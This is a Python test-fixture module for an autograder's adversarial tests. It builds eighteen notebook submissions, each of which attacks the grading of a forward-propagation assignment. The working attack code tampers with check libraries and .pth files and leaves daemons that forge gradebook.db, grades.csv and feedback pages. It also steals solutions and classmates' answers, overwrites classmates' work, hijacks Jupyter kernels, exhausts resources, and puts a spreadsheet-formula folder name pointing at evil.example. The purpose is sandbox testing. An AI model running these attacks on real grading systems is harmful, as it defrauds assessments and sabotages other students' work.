"""The adversarial learners of issue 13: one builder per attack an adversarial learner made on the
``grade`` command with notebook 01 (forward propagation), each a submission for notebook 01.

Every attack is an :class:`Attack`: the learner id the grader gives it, the entry it is uploaded
as (a notebook file, a symlink, or a learner folder), and its *honest score*: what its honest part
earns on its own, so that a contained attack scores exactly that (or is sent to review):

- ``correct``: every answer typed in, plus the attack code (honest score: full marks, 8);
- ``empty``: the release as handed out, plus the attack code (0);
- ``mutants``: one wrong answer per exercise (tests/mutants/01_forward_propagation.py, first
  of each exercise), plus the attack code (8 minus the points those mutants lose: 0 for 01);
- ``stolen``: the release, each answer cell taking what the attack stole, else its stub (0).

The attack code goes at the top of the first answer cell. It is bounded: daemons sleep at most
120 s in all and exit, at most 50 processes, files of at most 200 MB, network only to the
listener the test runs on 127.0.0.1 (its port is baked in), and searches that stop after a few
seconds. It finds its targets as a real attacker would: by walking from ``/``, from
``course_lib.__file__``, ``site.getsitepackages()``, ``jupyter_runtime_dir()``, and the course
folder's path (baked in: an attacker could guess it). It catches its own exceptions and prints
one line per step, ``advmarkNN DID ...`` or ``advmarkNN BLOCKED ...``, so the honest part still
runs and the instructor-side autograded notebook says what it managed. Everything an attack
creates on disk has its marker (``advmarkNN``) in its name, and every process it leaves has it
in its command line.

Never grade these without the sandbox: attacks 1 and 2 would really append to the repository's
course_lib and write a .pth file into the environment.
"""

from __future__ import annotations

import copy
import sys
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from grading_helpers import (  # noqa: E402
    correct_in_release,
    grade_id,
    is_autograded_test,
    nbgrader,
    to_bytes,
    with_source,
)

ASSIGNMENT = "01_forward_propagation"
NOTEBOOK = "forward_propagation"
MARK = "advmark"  # every file an attack writes and every process it leaves carries it
HONEST = ("zz_correct", "zz_mistake")  # graded last (ids sort after every attacker's)
FORMULA_FOLDER = '=HYPERLINK("evil.example","x")'  # a folder name cannot hold the "//"


@dataclass(frozen=True)
class Attack:
    number: int
    student: str  # the id the grader gives the learner
    what: str  # what the learner did, one line
    honest: float  # the score of its honest part alone
    honest_kind: str  # correct | empty | mutants | stolen
    entry: str  # the path of its upload inside the class folder
    data: bytes | None = None  # the notebook (None for a symlink)
    link_to: str | None = None  # a symlink's target

    @property
    def mark(self) -> str:
        return f"{MARK}{self.number:02d}"


# --- the code every attack starts with ------------------------------------------------------------

PRELUDE = r'''
_ADV_ANSWERS = {}


def _adv_say(*words):
    print(_ADV["mark"], *words, flush=True)


def _adv_walk(seconds=6.0, top="/"):
    """os.walk from ``top``, skipping /proc, /sys, /dev and .git, for at most ``seconds``."""
    import os
    import time
    stop = time.monotonic() + seconds
    for root, dirs, files in os.walk(top, onerror=lambda error: None):
        if time.monotonic() > stop:
            _adv_say("walk of", top, "stopped after", seconds, "s at", root)
            return
        dirs[:] = [d for d in dirs if d not in (".git", "node_modules", "__pycache__")
                   and os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/run")]
        yield root, dirs, files


def _adv_daemon(code, *args):
    """A double-forked daemon, ``python -c code MARK args...``: its command line names the mark."""
    import os
    import sys
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execv(sys.executable, [sys.executable, "-c", code, _ADV["mark"],
                                          *[str(a) for a in args]])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    _adv_say("DID start a daemon")


def _adv_cell_source(cell):
    source = cell.get("source", "")
    return "".join(source) if isinstance(source, list) else source
'''

RUN = r'''
try:
    _adv_attack()
except BaseException as _adv_error:
    _adv_say("BLOCKED", type(_adv_error).__name__, str(_adv_error)[:300])
'''

# Check functions that let anything through: what attacks 1 and 14 put in place of course_lib's.
PASS_THROUGH = '''
def call_without_warnings(fn, *args, name=None, hint=None, **kwargs):
    return fn(*args, **kwargs)
def check(*args, **kwargs):
    return None
def check_close(name, got=None, *args, **kwargs):
    return got
def check_shape(name, got=None, *args, **kwargs):
    return got
def check_type(name, got=None, *args, **kwargs):
    return got
def check_tuple(name, got=None, *args, **kwargs):
    return got
'''

# Markers built from pieces, so that no attack's own notebook looks like a solution.
SOLUTION_WORDS = '("BEGIN " + "SOLUTION", "END " + "SOLUTION")'
HIDDEN_WORDS = '"BEGIN " + "HIDDEN TESTS"'

ATTACKS: dict[int, tuple[str, str, str]] = {}  # number -> (name, honest kind, what)
BODIES: dict[int, str] = {}
SETTINGS: dict[int, dict] = {}


def attack(number: int, name: str, kind: str, what: str, **settings):
    def register(body: str) -> str:
        ATTACKS[number] = (name, kind, what)
        BODIES[number] = body
        SETTINGS[number] = settings
        return body
    return register


attack(1, "checks_append", "correct",
       "appends pass-through checks to course_lib/checks.py and lessons/checks.py",
       pass_through=PASS_THROUGH)(r'''
def _adv_attack():
    import os
    import course_lib
    payload = ("\n\n# " + _ADV["mark"] + ": appended by a learner's notebook\n"
               "import sys as _adv_sys\n"
               "exec(" + repr(_ADV["pass_through"]) + ", vars(_adv_sys.modules.get("
               "'course_lib.lessons.checks') or _adv_sys.modules[__name__]))\n")
    base = os.path.dirname(course_lib.__file__)
    targets = {os.path.join(base, "checks.py"), os.path.join(base, "lessons", "checks.py")}
    for root, dirs, files in _adv_walk(6.0):
        if (root.endswith("/course_lib") or root.endswith("/course_lib/lessons")) \
                and "checks.py" in files:
            targets.add(os.path.join(root, "checks.py"))
    for path in sorted(targets):
        try:
            with open(path, "a") as handle:
                handle.write(payload)
            _adv_say("DID append to", path)
        except Exception as exc:
            _adv_say("BLOCKED append to", path, type(exc).__name__, exc)
''')

attack(2, "pth_file", "correct",
       "writes a .pth file into every site-packages it finds (it runs in the next grade process)")(r'''
def _adv_attack():
    import os
    import site
    import sys
    folders = set()
    try:
        folders |= set(site.getsitepackages())
    except Exception as exc:
        _adv_say("BLOCKED getsitepackages", exc)
    folders.add(site.getusersitepackages())
    for top in {sys.prefix, sys.base_prefix}:
        for root, dirs, files in _adv_walk(4.0, top):
            if root.endswith("site-packages"):
                folders.add(root)
                dirs[:] = []
    line = ("import os; os.environ.setdefault('ADVMARK02_PTH', '1')  # " + _ADV["mark"]
            + ": a learner's .pth file\n")
    for folder in sorted(folders):
        path = os.path.join(folder, _ADV["mark"] + ".pth")
        try:
            os.makedirs(folder, exist_ok=True)
            with open(path, "w") as handle:
                handle.write(line)
            _adv_say("DID write", path)
        except Exception as exc:
            _adv_say("BLOCKED write", path, type(exc).__name__, exc)
''')

DAEMON_REWRITE = r'''
import glob, json, os, sqlite3, sys, time
mark, course, me = sys.argv[1:4]
start = time.time()
while time.time() - start < 110:
    csv_path = os.path.join(course, "grades.csv")
    if os.path.exists(csv_path) and os.path.getmtime(csv_path) >= start - 1:
        time.sleep(1.0)
        for path in glob.glob(os.path.join(course, "reports", "*", me + ".json")):
            try:
                data = json.load(open(path))
                data.update(score=data.get("max_score", 8), needs_review=False, flags=[],
                            review_reasons=[], forged_by=mark)
                json.dump(data, open(path, "w"))
            except Exception:
                pass
        for path in glob.glob(os.path.join(course, "reports", "*", "summary.md")):
            try:
                open(path, "a").write("\n" + mark + ": rewritten after the batch\n")
            except Exception:
                pass
        try:
            rows = open(csv_path).read().splitlines()
            rows = [row + "," + mark if row.startswith(me + ",") else row for row in rows]
            open(csv_path, "w").write("\n".join(rows) + "\n")
        except Exception:
            pass
        try:
            db = sqlite3.connect(os.path.join(course, "gradebook.db"))
            db.execute("UPDATE grade SET extra_credit = 8 WHERE notebook_id IN (SELECT n.id FROM "
                       "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                       "WHERE a.student_id = ?)", (me,))
            db.commit()
        except Exception:
            pass
        break
    time.sleep(0.5)
'''

attack(3, "daemon_rewrite", "empty",
       "leaves a double-forked daemon that rewrites gradebook.db, the reports and grades.csv "
       "once the batch has written them", daemon=DAEMON_REWRITE)(r'''
def _adv_attack():
    _adv_daemon(_ADV["daemon"], _ADV["course"], _ADV["me"])
''')

DAEMON_FEEDBACK = r'''
import glob, os, sys, time
mark, course, victim = sys.argv[1:4]
start = time.time()
fake = "<html><body><h1>" + mark + ": your score is 0 / 8</h1></body></html>"
while time.time() - start < 110:
    pages = glob.glob(os.path.join(course, "feedback", victim, "*", "*.html"))
    if pages:
        time.sleep(0.5)
        for page in pages:
            try:
                open(page, "w").write(fake)
            except Exception:
                pass
        break
    time.sleep(0.3)
'''

attack(4, "daemon_feedback", "correct",
       "leaves a daemon that replaces a classmate's feedback page with a fake one",
       daemon=DAEMON_FEEDBACK)(r'''
def _adv_attack():
    _adv_daemon(_ADV["daemon"], _ADV["course"], _ADV["victims"][0])
''')

attack(5, "steal_solution", "stolen",
       "reads the hidden tests (course source/, gradebook) and the solution notebook "
       "(solutions/), uses its answers and copies it into its folder")(r'''
def _adv_attack():
    import glob
    import json
    import os
    import shutil
    import sqlite3
    import course_lib
    begin, end = ''' + SOLUTION_WORDS + r'''
    hidden = ''' + HIDDEN_WORDS + r'''
    course, assignment = _ADV["course"], _ADV["assignment"]
    repo = os.path.dirname(os.path.dirname(os.path.abspath(course_lib.__file__)))
    candidates = glob.glob(os.path.join(course, "source", assignment, "*.ipynb"))
    candidates += glob.glob(os.path.join(repo, "solutions", assignment, "*.ipynb"))
    for root, dirs, files in _adv_walk(6.0):
        candidates += [os.path.join(root, f) for f in files if f == _ADV["notebook"] + ".ipynb"]
    for path in dict.fromkeys(candidates):
        try:
            with open(path, encoding="utf-8") as handle:
                text = handle.read()
        except Exception as exc:
            _adv_say("BLOCKED read", path, type(exc).__name__, exc)
            continue
        if begin not in text and hidden not in text:
            continue
        _adv_say("DID read", "the solution" if begin in text else "hidden tests", "in", path)
        for cell in json.loads(text).get("cells", []):
            meta = cell.get("metadata", {}).get("nbgrader", {})
            source = _adv_cell_source(cell)
            if meta.get("solution") and begin in source:
                _ADV_ANSWERS[meta["grade_id"]] = "\n".join(
                    line for line in source.split("\n") if begin not in line and end not in line)
        try:
            shutil.copy(path, os.path.join(os.getcwd(), _ADV["mark"] + "_solution.ipynb"))
            _adv_say("DID copy it into", os.getcwd())
        except Exception as exc:
            _adv_say("BLOCKED copy", type(exc).__name__, exc)
    database = os.path.join(course, "gradebook.db")
    try:
        connection = sqlite3.connect("file:" + database + "?mode=ro", uri=True)
        rows = connection.execute("SELECT source FROM source_cell").fetchall()
        found = [r[0] for r in rows if r[0] and hidden in r[0]]
        _adv_say("DID read", len(rows), "source cells,", len(found), "with hidden tests, from",
                 database)
    except Exception as exc:
        _adv_say("BLOCKED read", database, type(exc).__name__, exc)
    _adv_say("stole", len(_ADV_ANSWERS), "answers")
''')

attack(6, "steal_classmate", "stolen",
       "reads classmates' submissions (submitted/, originals/), uses one's answers and copies it")(
    r'''
def _adv_attack():
    import glob
    import json
    import os
    import shutil
    course, assignment, mark = _ADV["course"], _ADV["assignment"], _ADV["mark"]
    candidates = glob.glob(os.path.join(course, "submitted", "*", assignment, "*.ipynb"))
    candidates += glob.glob(os.path.join(course, "originals", assignment, "**", "*.ipynb"),
                            recursive=True)
    candidates += glob.glob(os.path.join(course, "autograded", "*", assignment, "*.ipynb"))
    for root, dirs, files in _adv_walk(6.0):
        if ("/submitted/" in root + "/" or "/originals/" in root + "/") and assignment in root:
            candidates += [os.path.join(root, f) for f in files if f.endswith(".ipynb")]
    for path in dict.fromkeys(candidates):
        if _ADV["me"] in path:
            continue
        try:
            with open(path, encoding="utf-8") as handle:
                text = handle.read()
        except Exception as exc:
            _adv_say("BLOCKED read", path, type(exc).__name__, exc)
            continue
        if mark.rstrip("0123456789") in text:  # my own notebook, or another attacker's
            continue
        answers = {}
        try:
            for cell in json.loads(text).get("cells", []):
                meta = cell.get("metadata", {}).get("nbgrader", {})
                source = _adv_cell_source(cell)
                if meta.get("solution") and "NotImplemented" + "Error" not in source:
                    answers[meta["grade_id"]] = source
        except Exception as exc:
            _adv_say("BLOCKED parse", path, type(exc).__name__, exc)
            continue
        _adv_say("DID read a classmate's notebook", path, "with", len(answers), "answers")
        if len(answers) > len(_ADV_ANSWERS):
            _ADV_ANSWERS.clear()
            _ADV_ANSWERS.update(answers)
            try:
                shutil.copy(path, os.path.join(os.getcwd(), mark + "_copy.ipynb"))
                _adv_say("DID copy it into", os.getcwd())
            except Exception as exc:
                _adv_say("BLOCKED copy", type(exc).__name__, exc)
    _adv_say("stole", len(_ADV_ANSWERS), "answers")
''')

attack(7, "overwrite_classmate", "correct",
       "overwrites classmates' submitted/ and originals/ files before they are graded")(r'''
def _adv_attack():
    import glob
    import json
    import os
    course, assignment, mark = _ADV["course"], _ADV["assignment"], _ADV["mark"]
    fake = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5,
                       mark: "overwritten by a classmate"})
    for victim in _ADV["victims"]:
        paths = glob.glob(os.path.join(course, "submitted", victim, assignment, "*.ipynb"))
        paths += glob.glob(os.path.join(course, "originals", assignment, victim, "**", "*"),
                           recursive=True)
        paths = [p for p in paths if not os.path.isdir(p)]
        if not paths:
            _adv_say("BLOCKED found no file of", victim)
        for path in paths:
            try:
                with open(path, "w") as handle:
                    handle.write(fake)
                _adv_say("DID overwrite", path)
            except Exception as exc:
                _adv_say("BLOCKED overwrite", path, type(exc).__name__, exc)
''')

attack(8, "kernel_hijack", "correct",
       "connects to a classmate's kernel through its connection file and runs code in it",
       poll_s=40)(r'''
def _adv_attack():
    import glob
    import os
    import time
    from jupyter_client import BlockingKernelClient
    from jupyter_core.paths import jupyter_runtime_dir
    own = ""
    try:
        from ipykernel import get_connection_file
        own = os.path.realpath(get_connection_file())
    except Exception as exc:
        _adv_say("own connection file unknown", exc)
    folders = {jupyter_runtime_dir(), os.path.dirname(own) or "/tmp", "/tmp",
               os.path.expanduser("~/.local/share/jupyter/runtime"),
               "/root/.local/share/jupyter/runtime"}
    tried = set()
    start = time.monotonic()
    while time.monotonic() - start < _ADV["poll_s"]:
        found = []
        for folder in folders:
            found += glob.glob(os.path.join(folder, "kernel*.json"))
            found += glob.glob(os.path.join(folder, "*", "kernel*.json"))
        for path in found:
            real = os.path.realpath(path)
            if real == own or real in tried:
                continue
            tried.add(real)
            try:
                client = BlockingKernelClient(connection_file=real)
                client.load_connection_file()
                client.start_channels()
                try:
                    reply = client.execute_interactive(
                        "import os; print(" + repr(_ADV["mark"] + " ran here") + ", os.getpid())",
                        timeout=5, store_history=False)
                finally:
                    client.stop_channels()
                if reply["content"]["status"] == "ok":
                    _adv_say("DID run code in the kernel of", real)
                    return
                _adv_say("BLOCKED kernel", real, reply["content"]["status"])
            except Exception as exc:
                _adv_say("BLOCKED kernel", real, type(exc).__name__, exc)
        time.sleep(1.0)
    _adv_say("BLOCKED no other kernel reached in", _ADV["poll_s"], "s; tried", len(tried),
             "connection files; own:", own)
''')

attack(9, "many_processes", "correct",
       "starts 40 processes in new sessions and a double-forked daemon that outlive the batch",
       children=40)(r'''
def _adv_attack():
    import subprocess
    import sys
    started = 0
    for _ in range(_ADV["children"]):
        try:
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(100)", _ADV["mark"]],
                             start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            started += 1
        except Exception as exc:
            _adv_say("BLOCKED process", started + 1, type(exc).__name__, exc)
            break
    _adv_say("DID start", started, "processes")
    _adv_daemon("import time; time.sleep(110)")
''')

attack(10, "big_file", "correct",
       "writes a 200 MB file in its folder, HOME, /tmp, its kernel's run folder and the course "
       "folder", megabytes=200)(r'''
def _adv_attack():
    import os
    places = [os.getcwd(), os.path.expanduser("~"), "/tmp", _ADV["course"]]
    try:
        from ipykernel import get_connection_file
        places.append(os.path.dirname(os.path.realpath(get_connection_file())))
    except Exception as exc:
        _adv_say("own connection file unknown", exc)
    block = b"\0" * (8 << 20)
    for place in dict.fromkeys(places):
        path = os.path.join(place, _ADV["mark"] + "_big.bin")
        written = 0
        try:
            with open(path, "wb") as handle:
                while written < _ADV["megabytes"] << 20:
                    handle.write(block)
                    written += len(block)
            _adv_say("DID write", written >> 20, "MB to", path)
        except Exception as exc:
            _adv_say("BLOCKED after", written >> 20, "MB in", path, type(exc).__name__, exc)
''')

attack(11, "mmap", "correct",
       "maps shared memory far past the memory cap and touches more than the cap of it")(r'''
def _adv_attack():
    import mmap
    cap = _ADV["cap_mb"]
    size, touch = (2 * cap + 1024) << 20, (cap + 512) << 20
    try:
        memory = mmap.mmap(-1, size)
    except Exception as exc:
        _adv_say("BLOCKED map of", size >> 20, "MB", type(exc).__name__, exc)
        return
    _adv_say("mapped", size >> 20, "MB (cap", cap, "MB)")
    block = b"\1" * (16 << 20)
    done = 0
    try:
        while done < touch:
            memory[done:done + len(block)] = block
            done += len(block)
        _adv_say("DID touch", done >> 20, "MB, more than the cap of", cap, "MB")
    finally:
        memory.close()
''')

attack(12, "network", "correct",
       "connects to a listener on 127.0.0.1 and sends it a line")(r'''
def _adv_attack():
    import socket
    with socket.create_connection(("127.0.0.1", _ADV["port"]), timeout=3) as connection:
        connection.sendall(_ADV["mark"].encode() + b" hello from a learner's kernel\n")
    _adv_say("DID connect and send to 127.0.0.1:" + str(_ADV["port"]))
''')

attack(13, "input_transformer", "empty",
       "an IPython input transformer that turns every test cell into `pass`")(r'''
def _adv_attack():
    def _adv_transform(lines):
        text = "".join(lines)
        if "checks.passed(" in text and "def " not in text:
            return ["pass\n"]
        return lines
    get_ipython().input_transformers_post.append(_adv_transform)
    _adv_say("DID add an input transformer")
''')

attack(14, "rebind_checks", "mutants",
       "vars(sys.modules['course_lib.' + 'checks']).update(...) with pass-through checks",
       pass_through=PASS_THROUGH)(r'''
def _adv_attack():
    import sys
    namespace = {}
    exec(_ADV["pass_through"], namespace)
    replaced = {k: v for k, v in namespace.items() if not k.startswith("__")}
    vars(sys.modules["course_lib." + "checks"]).update(replaced)
    _adv_say("DID replace", ", ".join(sorted(replaced)))
''')

# Attacks 15-18 carry no code of their own: a tag, names, a link, a folder name.
attack(15, "skip_execution", "empty", "a skip-execution tag on every test cell")("")
attack(16, "reference_functions", "empty",
       "linear_forward = F.linear_forward and the same for every activation (forward left "
       "as handed out)")("")
attack(17, "symlink", "empty",
       "its notebook is a symlink to the solution notebook (folder source)")("")
attack(18, "csv_formula", "correct",
       f"a correct notebook in a learner folder named {FORMULA_FOLDER}")("")


def student_id(number: int) -> str:
    name = ATTACKS[number][0]
    return "hyperlink_evil_example_x" if number == 18 else f"adv{number:02d}_{name}"


# --- building the notebooks ------------------------------------------------------------------------


def answer_cells(nb) -> list:
    return [c for c in nb.cells if c.cell_type == "code" and nbgrader(c).get("solution")]


def first_mutants(mutants: list[dict]) -> dict[str, dict]:
    """The first mutant of each exercise, by answer cell."""
    first: dict[str, dict] = {}
    for mutant in mutants:
        first.setdefault(mutant["cell"], mutant)
    return first


def full_marks(release) -> float:
    return float(sum(nbgrader(c).get("points", 0) for c in release.cells if is_autograded_test(c)))


def honest_notebooks(release, solution, mutants: list[dict]):
    """kind -> (notebook, score of its honest part)."""
    full = full_marks(release)
    correct = correct_in_release(release, solution)
    wrong = correct
    lost: set[str] = set()
    for cell_id, mutant in first_mutants(mutants).items():
        wrong = with_source(wrong, cell_id, mutant["source"])
        lost |= set(mutant["loses"])
    points = {grade_id(c): nbgrader(c).get("points", 0) for c in release.cells
              if is_autograded_test(c)}
    stolen = copy.deepcopy(release)
    for cell in answer_cells(stolen):
        stub = cell.source
        cell.source = f"exec(_ADV_ANSWERS.get({grade_id(cell)!r}) or {stub!r})\n"
    return {
        "correct": (correct, full),
        "empty": (copy.deepcopy(release), 0.0),
        "mutants": (wrong, full - sum(points[c] for c in lost)),
        "stolen": (stolen, 0.0),
    }


def attack_code(number: int, config: dict) -> str:
    name, _, what = ATTACKS[number]
    settings = {"mark": f"{MARK}{number:02d}", **config, **SETTINGS[number]}
    head = (f"# --- adversarial learner {number}, {name} (tests/adversarial/attacks.py): {what}\n"
            f"_ADV = {settings!r}\n")
    return head + PRELUDE + BODIES[number] + RUN


def build(release, solution, mutants: list[dict], *, course: Path, port: int,
          repo: Path, cap_mb: int) -> list[Attack]:
    """Every attack of issue 13, in order, against the course folder ``course``."""
    honest = honest_notebooks(release, solution, mutants)
    attacks = []
    for number, (_name, kind, what) in sorted(ATTACKS.items()):
        student = student_id(number)
        nb, score = honest[kind]
        nb = copy.deepcopy(nb)
        config = {"course": str(course), "port": port, "me": student, "victims": list(HONEST),
                  "cap_mb": cap_mb, "assignment": ASSIGNMENT, "notebook": NOTEBOOK}
        if BODIES[number]:
            first = answer_cells(nb)[0]
            first.source = attack_code(number, config) + "\n\n" + first.source
        if number == 15:
            for cell in nb.cells:
                if is_autograded_test(cell):
                    cell.metadata["tags"] = [*cell.metadata.get("tags", []), "skip-execution"]
        if number == 16:
            for cell in answer_cells(nb):
                if grade_id(cell) != "forward":
                    cell.source = f"{grade_id(cell)} = F.{grade_id(cell)}\n"
        if number == 17:
            target = Path(repo) / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
            attacks.append(Attack(number, student, what, score, kind, f"{student}.ipynb",
                                  link_to=str(target)))
            continue
        entry = (f"{FORMULA_FOLDER}/{NOTEBOOK}.ipynb" if number == 18 else f"{student}.ipynb")
        attacks.append(Attack(number, student, what, score, kind, entry, data=to_bytes(nb)))
    return attacks


def honest_learners(release, solution, mutants: list[dict]) -> dict[str, tuple[bytes, float]]:
    """The honest classmates: id -> (notebook, expected score). One correct, one with the first
    mutant of tests/mutants/01_forward_propagation.py (one known mistake)."""
    correct = correct_in_release(release, solution)
    mutant = mutants[0]
    points = {grade_id(c): nbgrader(c).get("points", 0) for c in release.cells
              if is_autograded_test(c)}
    full = full_marks(release)
    mistake = with_source(correct, mutant["cell"], mutant["source"])
    return {HONEST[0]: (to_bytes(correct), full),
            HONEST[1]: (to_bytes(mistake), full - sum(points[c] for c in mutant["loses"]))}


def write_class(folder: Path, attacks: list[Attack], honest: dict[str, tuple[bytes, float]]
                ) -> Path:
    """The class as a folder source: one file (or link, or learner folder) per learner."""
    folder.mkdir(parents=True, exist_ok=True)
    for item in attacks:
        path = folder / item.entry
        path.parent.mkdir(parents=True, exist_ok=True)
        if item.link_to:
            path.symlink_to(item.link_to)
        else:
            path.write_bytes(item.data)
    for student, (data, _) in honest.items():
        (folder / f"{student}.ipynb").write_bytes(data)
    return folder
